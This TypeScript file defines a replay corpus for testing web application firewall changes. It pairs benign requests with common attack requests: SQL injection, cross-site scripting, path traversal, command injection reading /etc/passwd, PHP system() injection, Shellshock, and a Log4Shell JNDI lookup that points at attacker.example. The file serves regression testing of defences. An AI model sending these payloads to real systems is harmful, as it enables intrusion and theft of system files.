// The replay's built-in corpus, replayed against every changed virtual host beside its own stored traffic:
// benign requests a real site gets (forms, search, APIs, prose with punctuation — the kind higher paranoia
// levels start to block) and common attacks (each one blocked by the CRS at paranoia 1 with the default
// thresholds). A change that newly lets one of these attacks through is flagged before Publish.
// Requests are data: they go only to the replay's stub backend (lib/replay/bundle.ts).

export type CorpusRequest = {
  id: string;
  label: string;
  kind: "benign" | "attack";
  method: string;
  target: string;
  headers?: Record<string, string>;
  body?: string;
};

const FORM = { "Content-Type": "application/x-www-form-urlencoded" };
const JSON_TYPE = { "Content-Type": "application/json" };

export const CORPUS: readonly CorpusRequest[] = [
  // Benign
  { id: "home", label: "Home page", kind: "benign", method: "GET", target: "/" },
  { id: "asset", label: "Static asset", kind: "benign", method: "GET", target: "/static/app.3f2a1c.js" },
  { id: "search", label: "Search", kind: "benign", method: "GET", target: "/search?q=running+shoes&page=2" },
  { id: "search-apostrophe", label: "Search with an apostrophe", kind: "benign", method: "GET", target: "/search?q=men%27s+shoes" },
  { id: "search-ampersand", label: "Search with an ampersand", kind: "benign", method: "GET", target: "/search?q=rock+%26+roll" },
  { id: "api-list", label: "API list with sort and fields", kind: "benign", method: "GET", target: "/api/items?sort=-price&fields=id,name&limit=50" },
  { id: "redirect-param", label: "Login with a return path", kind: "benign", method: "GET", target: "/login?next=%2Faccount%2Fsettings" },
  { id: "email-param", label: "E-mail address in a parameter", kind: "benign", method: "GET", target: "/subscribe?email=ann.lee%40example.com" },
  { id: "name-quotes", label: "Names with apostrophes", kind: "benign", method: "GET", target: "/people?name=D%27Angelo+%26+O%27Neil" },
  { id: "json-param", label: "JSON in a query parameter", kind: "benign", method: "GET", target: "/filter?json=%7B%22a%22%3A1%7D" },
  { id: "prose-question", label: "Message with punctuation", kind: "benign", method: "GET", target: "/post?text=Hello%21+How+are+you%3F+I%27m+fine%2C+thanks%3B+you%3F" },
  { id: "prose-dashes", label: "Message with a double dash", kind: "benign", method: "GET", target: "/feedback?msg=drop+me+a+line+--+thanks" },
  {
    id: "prose-review",
    label: "Product review with quotes and parentheses",
    kind: "benign",
    method: "GET",
    target: "/review?comment=It%27s+a+%22great%22+product+%28really%29%3B+5%2F5+%E2%80%94+would+buy+again%21",
  },
  { id: "login-form", label: "Login form post", kind: "benign", method: "POST", target: "/login", headers: FORM, body: "email=ann.lee%40example.com&password=correct-horse-battery" },
  { id: "contact-form", label: "Contact form post", kind: "benign", method: "POST", target: "/contact", headers: FORM, body: "name=Ann+Lee&message=Please+call+me+back+tomorrow+at+10." },
  { id: "json-post", label: "JSON API post", kind: "benign", method: "POST", target: "/api/orders", headers: JSON_TYPE, body: '{"items":[{"sku":"A-100","qty":2}],"note":"Leave at the door"}' },
  { id: "options", label: "CORS preflight", kind: "benign", method: "OPTIONS", target: "/api/orders", headers: { Origin: "https://shop.example", "Access-Control-Request-Method": "POST" } },

  // Attacks
  { id: "sqli-tautology", label: "SQL injection (tautology)", kind: "attack", method: "GET", target: "/search?q=1%27+OR+%271%27%3D%271" },
  { id: "sqli-union", label: "SQL injection (UNION SELECT)", kind: "attack", method: "GET", target: "/item?id=1+UNION+SELECT+username%2Cpassword+FROM+users--" },
  { id: "sqli-form", label: "SQL injection in a form post", kind: "attack", method: "POST", target: "/login", headers: FORM, body: "email=admin%27--&password=x%27+or+1%3D1--" },
  { id: "sqli-json", label: "SQL injection in a JSON body", kind: "attack", method: "POST", target: "/api/orders", headers: JSON_TYPE, body: '{"note":"1\' OR \'1\'=\'1"}' },
  { id: "xss-script", label: "Cross-site scripting (script tag)", kind: "attack", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E" },
  { id: "xss-event", label: "Cross-site scripting (event handler)", kind: "attack", method: "GET", target: "/profile?name=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E" },
  { id: "path-traversal", label: "Path traversal", kind: "attack", method: "GET", target: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd" },
  { id: "rce-unix", label: "Unix command injection", kind: "attack", method: "GET", target: "/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd" },
  { id: "php-injection", label: "PHP code injection", kind: "attack", method: "GET", target: "/page?code=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E" },
  { id: "log4shell", label: "Log4Shell JNDI lookup", kind: "attack", method: "GET", target: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D" },
  { id: "shellshock", label: "Shellshock", kind: "attack", method: "GET", target: "/cgi-bin/status", headers: { "User-Agent": "() { :; }; /bin/cat /etc/passwd" } },
  { id: "scanner", label: "Security scanner user agent", kind: "attack", method: "GET", target: "/", headers: { "User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" } },
];
